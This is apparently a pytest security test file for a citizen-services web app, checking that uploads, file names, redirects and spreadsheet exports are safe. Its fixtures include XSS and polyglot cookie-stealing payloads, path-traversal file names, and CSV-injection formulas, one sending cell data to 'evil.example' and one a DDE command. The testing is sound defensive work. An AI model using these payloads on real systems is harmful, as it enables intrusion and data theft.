"""Uploads are checked for type (by content), size (without reading unbounded data) and path
traversal (the client's file name never names a stored file); exports neutralise formula cells."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from emitra.core import config, spreadsheet
from emitra.core.models import LSP, Citizen, Document, ServiceRequest, StatementImport
from tests.test_reports import PERIOD, _record

CASTE = "gov.rj.revenue.caste_certificate"
FIELD = "ration_card_scan"
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n"
DATA = Path(__file__).parent / "data"


def _url(web) -> str:
    async def ramesh():
        return (await Citizen.get(name="Ramesh Kumar Sharma")).emitra_id

    return f"/counter/citizens/{web.run(ramesh)}/services/{CASTE}"


def upload(web, name: str, content: bytes, claimed: str = "application/pdf"):
    url = _url(web)
    return web.client.post(url, data={"csrf_token": web.csrf(url)}, files={FIELD: (name, content, claimed)})


def accepted(response) -> bool:
    """The file was kept (the rest of the form may still be incomplete: the page then asks for it)."""
    # (a refusal under a field; the file input's data-too-large is what the page's script would say)
    return response.status_code in (200, 400) and not re.search(r'class="error"[^>]*>(This file is not|The file is)', response.text)


def documents(web) -> list[Document]:
    async def rows():
        return await Document.all().order_by("id")

    return web.run(rows)


def test_a_scan_is_judged_by_its_content_not_its_name_or_claimed_type(web):
    web.login("operator1")
    hostile = {
        "scan.png": (b"<html><body><script>alert(1)</script></body></html>", "image/png"),
        "photo.png": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>', "image/png"),
        "card.pdf": (b"PK\x03\x04 a zip or a Word file", "application/pdf"),
        "empty.pdf": (b"", "application/pdf"),
    }
    for name, (content, claimed) in hostile.items():
        response = upload(web, name, content, claimed)
        assert response.status_code == 400, name
        assert "This file is not a PDF, JPEG or PNG file" in response.text or "The file is empty" in response.text, name
    assert documents(web) == []
    # a PDF named .jpg and sent as a JPEG is kept, as what it is
    assert accepted(upload(web, "card.jpg", PDF, "image/jpeg"))
    (doc,) = documents(web)
    assert doc.content_type == "application/pdf" and doc.original_name == "card.jpg"
    served = web.get(f"/documents/{doc.public_id}")
    assert served.headers["content-type"] == "application/pdf"
    assert served.headers["content-disposition"] == f'attachment; filename="{doc.public_id}.pdf"'


def test_a_polyglot_is_served_only_as_its_declared_image_never_as_a_page(web):
    web.login("operator1")
    polyglot = b"\x89PNG\r\n\x1a\n<html><script>alert(document.cookie)</script></html>"
    assert accepted(upload(web, "innocent.png", polyglot, "text/html"))
    (doc,) = documents(web)
    served = web.get(f"/documents/{doc.public_id}")
    assert served.status_code == 200 and served.content == polyglot
    assert served.headers["content-type"] == "image/png"
    assert served.headers["x-content-type-options"] == "nosniff"
    assert served.headers["content-disposition"].startswith("attachment;")
    assert served.headers["content-security-policy"] == "default-src 'none'; sandbox"


def test_a_scan_over_its_limit_is_refused_on_its_field_naming_its_size_and_the_limit(web):
    """Only the limit and one byte are read into memory, but the refusal names the file's real size
    (rounded up: a file just over 1 MB is not "1 MB"), on the page and through the API, in the unit
    the field's help says its limit in: the help said "At most 1 MB." and the refusal "at most 1024 KB"."""
    web.login("operator1")
    form = web.get(_url(web)).text
    assert "At most 1 MB." in form and 'data-size-unit="MB"' in form
    assert "data-too-large=\"The file is {size}; at most 1 MB is accepted." in form  # what the page's script says
    big = upload(web, "big.pdf", PDF + b"0" * (1024 * 1024 + 10))
    assert big.status_code == 400 and 'id="f-ration_card_scan-error"' in big.text
    assert "The file is 1.1 MB; at most 1 MB is accepted." in big.text and "At most 1 MB." in big.text
    three_mb = PDF + b"0" * (3 * 1024 * 1024 - len(PDF))
    assert "The file is 3 MB; at most 1 MB is accepted." in upload(web, "scan.pdf", three_mb).text
    web.get("/lang/hi")
    hindi = upload(web, "scan.pdf", three_mb).text
    assert "फ़ाइल 3 MB की है; अधिकतम 1 MB स्वीकार है।" in hindi and "अधिकतम 1 MB।" in hindi
    api = web.client.post("/api/v1/documents", headers=web.api_token("operator1"), data={"service_code": CASTE, "field": FIELD},
                          files={"file": ("scan.pdf", three_mb, "application/pdf")})
    assert api.status_code == 422
    (error,) = api.json()["error"]["fields"]
    assert error["field"] == FIELD and error["message_en"].startswith("The file is 3 MB; at most 1 MB is accepted.")
    assert error["message_hi"].startswith("फ़ाइल 3 MB की है")
    assert documents(web) == []


@pytest.mark.parametrize("size_bytes, unit, written", [
    (1, "KB", "1 KB"), (1024, "KB", "1 KB"), (1025, "KB", "2 KB"), (3 * 1024 * 1024 + 9, "KB", "3,073 KB"),
    (1024 * 1024, "MB", "1 MB"), (1024 * 1024 + 1, "MB", "1.1 MB"), (3 * 1024 * 1024 + 9, "MB", "3.1 MB"),
    (1536 * 1024, "MB", "1.5 MB"), (5000, None, "5 KB"), (1536 * 1024, None, "1.5 MB"),
])
def test_sizes_are_written_by_one_rule_rounded_up(size_bytes, unit, written):
    from emitra.core import documents as docs

    assert docs.size_text(size_bytes, unit) == written


@pytest.mark.parametrize("max_kb, help_size, refusal", [
    (1024, "1 MB", "The file is 3.1 MB; at most 1 MB is accepted."),
    (2048, "2 MB", "The file is 3.1 MB; at most 2 MB is accepted."),
    (1536, "1.5 MB", "The file is 3.1 MB; at most 1.5 MB is accepted."),
    (200, "200 KB", "The file is 3,073 KB; at most 200 KB is accepted."),
    (1000, "1,000 KB", "The file is 3,073 KB; at most 1,000 KB is accepted."),
])
def test_a_limit_and_the_file_refused_by_it_are_in_one_unit(max_kb, help_size, refusal):
    from emitra.core import documents as docs

    assert docs.size_label(max_kb) == help_size
    assert docs.too_large(max_kb, 3 * 1024 * 1024 + 9)[0].startswith(refusal)
    assert help_size in docs.too_large(max_kb, "{size}")[1]


@pytest.mark.anyio
async def test_a_file_read_only_up_to_its_limit_is_said_to_be_larger_than_the_limit(demo_db):
    """A caller that read only the start of a file and cannot give its size gets a refusal that is
    still true: "larger than", not the size of what was read."""
    from emitra.core import documents as docs
    from emitra.core.audit import Actor
    from emitra.core.forms import FormErrors
    from emitra.core.models import Counter, User
    from emitra.core.plugins import get_host

    user = await User.get(username="operator1")
    service = get_host().registry.get(CASTE)
    first_bytes = PDF + b"0" * (1024 * 1024 + 1 - len(PDF))
    with pytest.raises(FormErrors) as caught:
        await docs.store(Actor(user), await Counter.get(id=user.counter_id), service, FIELD, "scan.pdf", first_bytes)
    (error,) = caught.value.errors
    assert error.en == "The file is larger than 1 MB; at most 1 MB is accepted. Scan at a lower resolution."
    assert error.hi.startswith("फ़ाइल 1 MB से बड़ी है; अधिकतम 1 MB स्वीकार है।")
    assert await Document.all().count() == 0


def test_a_form_over_the_request_limit_or_with_too_many_files_is_refused_before_it_is_read(web, monkeypatch):
    web.login("operator1")
    url = _url(web)
    token = web.csrf(url)
    monkeypatch.setenv("EMITRA_MAX_REQUEST_MB", "1")
    big = web.client.post(url, data={"csrf_token": token}, files={FIELD: ("big.pdf", PDF + b"0" * (1536 * 1024), "application/pdf")})
    assert big.status_code == 413
    assert "larger than 1 MB" in big.text

    def chunks():  # no Content-Length: the body is cut off once it passes the limit
        for n in range(48):
            yield f"f{n}=".encode() + b"x" * (64 * 1024 - 8) + b"&"

    streamed = web.client.post(url, content=chunks(), headers={"content-type": "application/x-www-form-urlencoded"})
    assert streamed.status_code == 413
    api = web.client.post("/api/v1/documents", headers=web.api_token("operator1"), data={"service_code": "x", "field": FIELD},
                          files={"file": ("big.pdf", PDF + b"0" * (1536 * 1024), "application/pdf")})  # the API's upload too
    assert api.status_code == 413 and api.json()["error"]["code"] == "too_large"
    assert "larger than 1 MB" in api.json()["error"]["message"]
    monkeypatch.delenv("EMITRA_MAX_REQUEST_MB")
    files = [(f"extra{n}", (f"{n}.pdf", PDF, "application/pdf")) for n in range(25)]
    many = web.client.post(url, data={"csrf_token": token}, files=files)
    assert many.status_code == 400 and "Too many files" in many.text
    assert documents(web) == []


def test_a_form_over_the_request_limit_is_answered_in_the_pages_language_with_the_way_back_to_the_form(web, monkeypatch):
    """A scan too large for the whole form: the page says so in the page's language only, under a
    heading that says what happened (it said "413", English first on a Hindi page), and links back to
    the form it was sent from, never to another site."""
    web.login("operator1")
    url = _url(web)
    token = web.csrf(url)
    monkeypatch.setenv("EMITRA_MAX_REQUEST_MB", "1")
    big = {FIELD: ("phone photo.pdf", PDF + b"0" * (1536 * 1024), "application/pdf")}

    def send(referer: str):
        return web.client.post(url, data={"csrf_token": token}, files=big, headers={"referer": referer})

    refused = send(f"http://testserver{url}?step=1")
    assert refused.status_code == 413
    assert re.search(r"<h1>The form was not sent: it is too large <small[^>]*>\(413\)</small></h1>", refused.text)
    said = re.search(r'<p class="error" role="alert">(.*?)</p>', refused.text, re.S).group(1)
    assert said.startswith("Nothing was received or recorded: the form with its files is larger than 1 MB")
    assert "Go back to the form" in said and not re.search(r"[\u0900-\u097F]", said)
    assert f'<a href="{url}?step=1">Back to the page</a>' in refused.text
    assert "Back to the page" not in send("https://elsewhere.example/counter").text
    # a path a browser would read as another site's ("/\\evil" is "//evil" to it): no link
    assert "Back to the page" not in send("http://testserver/\\elsewhere.example/counter").text
    web.get("/lang/hi")
    hindi = send(f"http://testserver{url}")
    assert hindi.status_code == 413 and "<h1>फ़ॉर्म नहीं भेजा गया: यह बहुत बड़ा है <small" in hindi.text
    said = re.search(r'<p class="error" role="alert">(.*?)</p>', hindi.text, re.S).group(1)
    assert said.startswith("कुछ भी प्राप्त या दर्ज नहीं हुआ: फ़ॉर्म अपनी फ़ाइलों सहित 1 MB से बड़ा है") and "The form" not in said
    assert documents(web) == []


def test_client_file_names_never_name_a_stored_file(web):
    web.login("operator1")
    root = config.data_dir()
    before = {p for p in root.rglob("*") if p.is_file()}
    names = ["../../etc/passwd.pdf", "..\\..\\windows\\win.ini.pdf", "/etc/shadow.pdf", "C:\\boot.pdf",
             "a" * 1000 + ".pdf", "scan\u202efdp.exe", "..", "nul\x00byte.pdf", "तहसील स्कैन.pdf"]
    for name in names:
        assert accepted(upload(web, name, PDF)), name
    docs = documents(web)
    assert len(docs) == len(names)
    created = {p for p in root.rglob("*") if p.is_file()} - before
    assert created == {root / "documents" / d.public_id[:2] / d.public_id for d in docs}
    assert all(re.fullmatch(r"[0-9a-f]{32}", d.public_id) for d in docs)
    shown = [d.original_name for d in docs]
    assert shown[:4] == ["passwd.pdf", "win.ini.pdf", "shadow.pdf", "boot.pdf"]
    assert len(shown[4]) == 200 and shown[4].endswith(".pdf")
    assert shown[5] == "scanfdp.exe" and shown[6] == "" and "\x00" not in shown[7] and shown[8] == "तहसील स्कैन.pdf"
    for doc in docs:
        served = web.get(f"/documents/{doc.public_id}")
        assert served.headers["content-disposition"] == f'attachment; filename="{doc.public_id}.pdf"'
    for probe in ("..%2F..%2Fetc%2Fpasswd", "....", "%00", docs[0].public_id + "%00"):
        assert web.get(f"/documents/{probe}").status_code == 404, probe


def test_statement_uploads_are_limited_checked_and_named_safely(web):
    web.login("society")
    token = web.csrf("/society/reconciliation")

    def send(action: str, name: str, content: bytes, claimed: str = "text/csv"):
        return web.post("/society/reconciliation", data={"action": action, "csrf_token": token}, files={"file": (name, content, claimed)})

    too_big = send("import_bank", "bank.csv", b"date,description,reference,debit,credit,balance\n" + b"x" * (5 * 1024 * 1024 + 1))
    assert too_big.status_code == 400 and "larger than 5 MB" in too_big.text
    # over the whole request's limit (12 MB): refused before it is read, with advice a statement can follow
    # too (it said only "Scan the documents at a lower resolution")
    huge = send("import_bank", "bank.csv", b"date,description,reference,debit,credit,balance\n" + b"x" * (13 * 1024 * 1024))
    assert huge.status_code == 413 and "a bank statement split by week" in huge.text
    # Windows-1252 (decision 57) is read; this one has no money columns, and its header is refused as such (decision 178)
    latin = send("import_bank", "bank.csv", "date,description\n2025-11-24,Caf\u00e9 d\u00e9p\u00f4t\n".encode("latin-1"))
    assert latin.status_code == 400 and "Line 1 looks like the header" in latin.text and "it lacks the money columns" in latin.text
    neither = send("import_bank", "bank.csv", b"date,description,reference,debit,credit,balance\n2025-11-24,Caf\x81,R,,1.00,\n")
    assert neither.status_code == 400 and "neither UTF-8 nor Windows-1252" in neither.text
    pdf = send("import_bank", "bank.csv", PDF + b"\xff\xfe binary")
    assert pdf.status_code == 400
    not_json = send("import_stripe", "stripe.json", b"<html>not json</html>", "application/json")
    assert not_json.status_code == 400
    assert web.run(lambda: StatementImport.all().count()) == 0
    good = send("import_bank", "../../..\\bank\u202e.csv", (DATA / "bank_good.csv").read_bytes())
    assert good.status_code == 200

    async def filename():
        return (await StatementImport.get()).filename

    assert web.run(filename) == "bank.csv"


def test_formula_cells_are_neutralised_in_every_export(web, monkeypatch):
    assert [spreadsheet.cell(v) for v in ("=1+1", "+91 98", "-150.00", "-1,00,000.00", "-1+1", "@SUM(A1)", "\tx", "plain", 5)] == \
        ["'=1+1", "'+91 98", "-150.00", "-1,00,000.00", "'-1+1", "'@SUM(A1)", "'\tx", "plain", 5]
    # a bank statement line whose reference and description are formulas
    web.login("society")
    token = web.csrf("/society/reconciliation")
    statement = (DATA / "bank_good.csv").read_text().replace("CDM123", '=HYPERLINK("http://evil.example/?x="&A1)') \
        .replace("BY CASH DEP SLIP", "@SUM(1+1) CASH DEP SLIP")
    assert web.post("/society/reconciliation", data={"action": "import_bank", "csrf_token": token},
                    files={"file": ("bank.csv", statement.encode(), "text/csv")}).status_code == 200
    exported = web.get("/society/reconciliation/export.csv?week=2025-11-24")
    cells = [c for line in csv.reader(io.StringIO(exported.text)) for c in line]
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not re.fullmatch(r"-[\d.]+", c))]
    # an LSP whose name is a formula, in the MIS report's CSV and XLSX
    _record(web, monkeypatch)

    async def rename():
        await LSP.all().update(name="=cmd|' /C calc'!A0")

    web.run(rename)
    report = web.get(f"/reports/export.csv?{PERIOD}&by=lsp")
    cells = [c for line in csv.reader(io.StringIO(report.text.lstrip("\ufeff"))) for c in line]
    assert "'=cmd|' /C calc'!A0" in cells and "=cmd|' /C calc'!A0" not in cells
    book = load_workbook(io.BytesIO(web.get(f"/reports/export.xlsx?{PERIOD}&by=lsp").content))
    values = [c for row in book["Figures"].iter_rows() for c in row]
    assert any(c.value == "'=cmd|' /C calc'!A0" and c.data_type == "s" for c in values)
    assert not [c for c in values if c.data_type == "f"]


PAN = "gov.in.incometax.pan_new"
PAN_FORM = {"name": "Ramesh Kumar Sharma", "father_name": "Mohan Lal Sharma", "date_of_birth": "1980-01-15", "mobile": "9829012345"}


def test_a_scan_uploaded_for_one_field_is_refused_in_another(web):
    """PAN's proof of identity takes a PDF of up to 1 MB, its photograph only a JPEG or PNG of up to
    200 KB: a 600 KB PDF uploaded as the proof and named as the photograph would have skipped the
    photograph's checks. It is refused on the photograph, naming the fix, and nothing is written;
    through the API and the counter's form alike."""
    h = web.api_token("operator1")

    def up(field: str, content: bytes, name: str) -> str:
        r = web.post("/api/v1/documents", headers=h, data={"service_code": PAN, "field": field},
                     files={"file": (name, content, "application/octet-stream")})
        assert r.status_code == 201, r.text
        return r.json()["id"]

    png = b"\x89PNG\r\n\x1a\n" + b"0" * 1000
    proof = up("proof_of_identity", PDF + b"0" * (600 * 1024), "proof.pdf")
    photo, signature = up("photo", png, "photo.png"), up("signature", png, "sign.png")
    requests_before = web.run(lambda: ServiceRequest.all().count())
    body = {"service_code": PAN, "form": {**PAN_FORM, "photo": proof, "signature": signature, "proof_of_identity": photo}}
    quote = web.post("/api/v1/quotes", headers=h, json=body)
    assert quote.status_code == 422, quote.text
    errors = {e["field"]: e for e in quote.json()["error"]["fields"]}
    assert set(errors) == {"photo", "proof_of_identity"}
    assert "uploaded for another field" in errors["photo"]["message_en"] and "upload it again" in errors["photo"]["message_en"]
    assert "दूसरे फ़ील्ड" in errors["photo"]["message_hi"]
    paid = web.post("/api/v1/transactions", headers=h, json={
        **body, "citizen": web.run(lambda: Citizen.get(name="Ramesh Kumar Sharma")).emitra_id,
        "payment": {"method": "cash", "amount_paise": 11700}, "idempotency_key": "JP-LM-001-swap-1"})
    assert paid.status_code == 422 and {e["field"] for e in paid.json()["error"]["fields"]} == {"photo", "proof_of_identity"}
    assert web.run(lambda: ServiceRequest.all().count()) == requests_before
    assert all(d.request_id is None for d in documents(web))
    # the counter's form: the id typed into the photograph's field (as a carried value) is refused there
    web.login("operator1")
    url = _url(web).replace(CASTE, PAN)
    page = web.post(url, data={"csrf_token": web.csrf(url), "_step": "9", **PAN_FORM, "photo": proof, "signature": signature,
                               "proof_of_identity": proof})
    assert page.status_code == 400 and 'id="f-photo-error"' in page.text and "uploaded for another field" in page.text
    # named in the fields they were uploaded for, they are taken
    right = web.post("/api/v1/quotes", headers=h, json={**body, "form": {**body["form"], "photo": photo, "proof_of_identity": proof}})
    assert right.status_code == 200, right.text


def test_a_form_with_one_scan_refused_holds_the_others_and_sent_again_takes_them(web):
    """The counter's form posts its scans together: when one is refused (the signature is an HTML
    page), the page names that field, and the scans that passed their checks are held for the form
    (decision 149; before, none was kept and the operator sent them all again on a slow link): the
    form sent again with only the corrected signature has all three, the refused file kept nowhere."""
    from emitra.core.models import AuditLog

    web.login("operator1")
    url = _url(web).replace(CASTE, PAN)
    root = config.data_dir()
    files_before = {p for p in root.rglob("*") if p.is_file()}
    png = b"\x89PNG\r\n\x1a\n" + b"0" * 1000
    page = web.client.post(url, data={"csrf_token": web.csrf(url), **PAN_FORM}, files=[
        ("photo", ("photo.png", png, "image/png")), ("signature", ("sign.png", b"<html>not a scan</html>", "image/png")),
        ("proof_of_identity", ("proof.pdf", PDF, "application/pdf"))])
    assert page.status_code == 400 and 'id="f-signature-error"' in page.text and "This file is not a JPEG or PNG file" in page.text
    assert "<strong>photo.png (PNG, 1 KB)</strong>" in page.text and "<strong>proof.pdf (PDF, 1 KB)</strong>" in page.text
    assert {d.field for d in documents(web)} == {"photo", "proof_of_identity"}
    assert web.run(lambda: AuditLog.filter(action="document.upload").count()) == 2
    assert len({p for p in root.rglob("*") if p.is_file()} - files_before) == 2  # the refused file is not kept
    held = {k: v for k, v in re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', page.text)}
    ok = web.client.post(url, data={**held, **PAN_FORM}, files=[("signature", ("sign.png", png, "image/png"))])
    assert ok.status_code == 200 and {d.field for d in documents(web)} == {"photo", "signature", "proof_of_identity"}
    assert "photo.png" in ok.text and "proof.pdf" in ok.text  # the confirmation page names them
